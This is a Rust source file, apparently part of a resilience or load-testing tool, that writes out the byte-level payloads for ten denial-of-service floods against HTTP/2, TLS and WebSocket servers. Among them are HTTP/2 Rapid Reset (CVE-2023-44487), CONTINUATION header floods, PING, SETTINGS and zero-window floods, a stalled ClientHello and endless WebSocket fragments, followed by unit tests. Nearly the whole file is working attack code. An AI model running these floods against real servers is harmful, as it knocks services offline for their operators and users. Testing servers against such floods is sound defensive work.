//! The bytes of each attack.

/// How a server is attacked.
#[derive(Clone, Copy)]
pub(crate) enum Flood {
    /// Streams that are reset as soon as they are opened (CVE-2023-44487).
    RapidReset,
    /// A header block without end, in frames as long as they may be (RUSTSEC-2024-0332).
    Continuation,
    /// The same in empty frames.
    EmptyContinuation,
    Ping,
    Settings,
    /// DATA frames without a byte.
    EmptyData,
    /// A hundred requests, and no window for their answers.
    ZeroWindow,
    /// The front of a ClientHello, and then nothing.
    Handshake,
    /// A WebSocket message without end, in fragments of 4 KiB.
    Fragments,
    /// The same in fragments of a byte.
    TinyFragments,
}

impl Flood {
    pub(crate) fn named(kind: &str) -> Option<Flood> {
        Some(match kind {
            "rapid-reset" => Flood::RapidReset,
            "continuation" => Flood::Continuation,
            "empty-continuation" => Flood::EmptyContinuation,
            "ping" => Flood::Ping,
            "settings" => Flood::Settings,
            "empty-data" => Flood::EmptyData,
            "zero-window" => Flood::ZeroWindow,
            "handshake" => Flood::Handshake,
            "fragments" => Flood::Fragments,
            "tiny-fragments" => Flood::TinyFragments,
            _ => return None,
        })
    }

    /// What a connection begins with.
    pub(crate) fn begin(self, output: &mut Vec<u8>, opened: &mut u32) {
        match self {
            Flood::Handshake => return output.extend_from_slice(CLIENT_HELLO),
            Flood::Fragments | Flood::TinyFragments => {
                output.extend_from_slice(UPGRADE.as_bytes());
                return fragment(output, TEXT, 1);
            }
            _ => output.extend_from_slice(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        }
        match self {
            Flood::ZeroWindow => {
                frame(output, SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
                for _ in 0..STREAMS {
                    open(output, END_STREAM | END_HEADERS, opened);
                }
            }
            Flood::Continuation | Flood::EmptyContinuation => {
                frame(output, SETTINGS, 0, 0, &[]);
                open(output, 0, opened);
            }
            Flood::EmptyData => {
                frame(output, SETTINGS, 0, 0, &[]);
                open(output, END_HEADERS, opened);
            }
            _ => frame(output, SETTINGS, 0, 0, &[]),
        }
    }

    /// What follows, again and again; nothing if the attack is to keep quiet.
    pub(crate) fn go_on(self, output: &mut Vec<u8>, opened: &mut u32) {
        match self {
            Flood::ZeroWindow | Flood::Handshake => {}
            Flood::Continuation => {
                // A field of 100 bytes that is not indexed, again and again.
                let mut field = vec![0, 1, b'x', 100];
                field.resize(4 + 100, b'y');
                let block = field.repeat(MAX_FRAME / field.len());
                frame(output, CONTINUATION, 0, 1, &block);
            }
            Flood::Fragments => (0..4).for_each(|_| fragment(output, CONTINUED, 4096)),
            flood => (0..FRAMES).for_each(|_| flood.one(output, opened)),
        }
    }

    /// One small frame of the flood.
    fn one(self, output: &mut Vec<u8>, opened: &mut u32) {
        match self {
            Flood::RapidReset => {
                let stream = open(output, END_STREAM | END_HEADERS, opened);
                frame(output, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
            }
            Flood::EmptyContinuation => frame(output, CONTINUATION, 0, 1, &[]),
            Flood::Ping => frame(output, PING, 0, 0, b"attacked"),
            Flood::Settings => frame(output, SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
            Flood::EmptyData => frame(output, DATA, 0, 1, &[]),
            Flood::TinyFragments => fragment(output, CONTINUED, 1),
            Flood::Continuation | Flood::ZeroWindow | Flood::Handshake | Flood::Fragments => {}
        }
    }
}

/// Opens a stream with a GET request; gives its number.
fn open(output: &mut Vec<u8>, flags: u8, opened: &mut u32) -> u32 {
    let stream = 2 * *opened + 1;
    *opened += 1;
    // Entries of HPACK's static table, and `:authority` as a literal that is not indexed.
    let [get, http, root, authority] = [0x82, 0x86, 0x84, 0x01];
    frame(output, HEADERS, flags, stream, &[get, http, root, authority, 1, b'x']);
    stream
}

/// A frame of HTTP/2.
fn frame(output: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    output.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    output.extend([kind, flags]);
    output.extend_from_slice(&stream.to_be_bytes());
    output.extend_from_slice(payload);
}

/// A frame of WebSocket that ends no message, masked with zeros; at most 65,535 bytes.
fn fragment(output: &mut Vec<u8>, opcode: u8, length: usize) {
    const MASKED: u8 = 0x80;
    output.push(opcode);
    match length {
        0..126 => output.push(MASKED | length as u8),
        _ => {
            output.push(MASKED | 126);
            output.extend_from_slice(&(length as u16).to_be_bytes());
        }
    }
    output.extend_from_slice(&[0; 4]);
    output.resize(output.len() + length, b'x');
}

/// Frames that are sent at once.
const FRAMES: usize = 1000;
/// Streams without a window, as many as servers commonly allow for.
const STREAMS: usize = 100;
/// The longest frame of HTTP/2 that every server takes.
const MAX_FRAME: usize = 16 * 1024;

/// A record of 512 bytes that holds the front of a ClientHello: its end never comes.
const CLIENT_HELLO: &[u8] = &[
    0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15,
    16, 17, 18, 19, 20, 21, 22, 23, 24, 25, 26, 27, 28, 29, 30, 31, 0, 0, 2, 0x13, 1,
];
const UPGRADE: &str = "GET /ws HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
    Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;

/// Opcodes of WebSocket.
const CONTINUED: u8 = 0;
const TEXT: u8 = 1;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn resets_name_the_streams_that_were_opened() {
        let (mut output, mut opened) = (Vec::new(), 0);
        Flood::RapidReset.one(&mut output, &mut opened);
        Flood::RapidReset.one(&mut output, &mut opened);
        let heads: Vec<_> = [0, 15, 28, 43].map(|at| (output[at + 3], output[at + 8])).into();
        assert_eq!(heads, [(HEADERS, 1), (RST_STREAM, 1), (HEADERS, 3), (RST_STREAM, 3)]);
    }

    #[test]
    fn fragments_have_the_length_that_they_say() {
        let mut output = Vec::new();
        fragment(&mut output, CONTINUED, 4096);
        assert_eq!(output[..4], [0, 0xfe, 16, 0]);
        assert_eq!(output.len(), 8 + 4096);
    }
}
